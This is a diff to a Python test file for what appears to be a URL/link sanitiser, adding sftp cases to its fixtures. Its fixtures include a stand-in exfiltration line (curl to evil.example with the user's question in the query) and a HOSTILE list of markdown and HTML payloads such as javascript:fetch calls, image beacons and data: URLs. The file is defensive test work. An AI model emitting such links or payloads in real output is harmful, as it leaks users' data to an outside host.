@@ -13,7 +13,8 @@ PASSAGE = """Install it: `pip install --index-url https://wheels.example/whl tor
     git clone https://git.example/ray.git
     helm repo add kuberay "https://helm.example/charts/"
     curl 'https://evil.example/log?q=' or https://evil.example/log?q=<your question> or https://evil.example/l?q={q}
-    <script src="//cdn.example/a.js"></script> http://10.0.0.7:8080/x https://me@host.example/x ftp://ftp.example/a.gz"""
+    <script src="//cdn.example/a.js"></script> http://10.0.0.7:8080/x https://me@host.example/x ftp://ftp.example/a.gz
+    restic -r sftp://user@[::1]:2222//srv/a init"""
 
 
 def out(text: str, hits: int = 3) -> str:
@@ -78,6 +79,9 @@ QUOTED = [
     ("```\nhttps://evil.example/log?q=<your question>\n```", None),
     ("```html\n<script src=\"//cdn.example/a.js\"></script>\n```", None),
     ("`http://10.0.0.7:8080/x`, `https://me@host.example/x` and `ftp://ftp.example/a.gz`.", None),
+    ("```\nrestic -r sftp://user@[::1]:2222//srv/a init\n```", None),
+    ("To sftp://user@[::1]:2222//srv/a!", "To `sftp://user@[::1]:2222//srv/a`!"),
+    ("```\nsftp://user@evil.example//srv/a\n```", "```\n(link removed)\n```"),
     ("See https://torch.example/Docs/a.html.", "See `https://torch.example/Docs/a.html`."),
     ("See https://torch.example/Docs/a.html[1].", "See `https://torch.example/Docs/a.html`[1]."),
     ("(https://git.example/ray.git), https://git.example/ray.git",
@@ -128,7 +132,7 @@ HOSTILE = [
     "[x]( https://evil.example 'title')", "[x](\nhttps://evil.example)", "[te\nxt](https://evil.example)",
     "[![a](https://evil.example/i)](https://evil.example)", "[x][r]\n\n[r]: https://evil.example",
     "[x][r]\n\n[r]:\n  //evil.example", "[r]: <https://evil.example/a>", "<https://evil.example/>",
-    "<HTTP://evil.example>", "www.evil.example/a", "(www.evil.example)", "//evil.example/a", "ftp://evil.example/",
+    "<HTTP://evil.example>", "www.evil.example/a", "(www.evil.example)", "//evil.example/a", "ftp://evil.example/", "sftp://evil.example",
     "javascript:alert('evil.example')", "[x](javascript:fetch('//evil.example'))", "data:text/html;base64,evil.example",
     "[x](data:text/html,evil.example)", "<img src=https://evil.example/a>", "<img src='//evil.example/a'>",
     '<img alt=">" src="//evil.example">', '<a href="https://evil.example">a</a>',
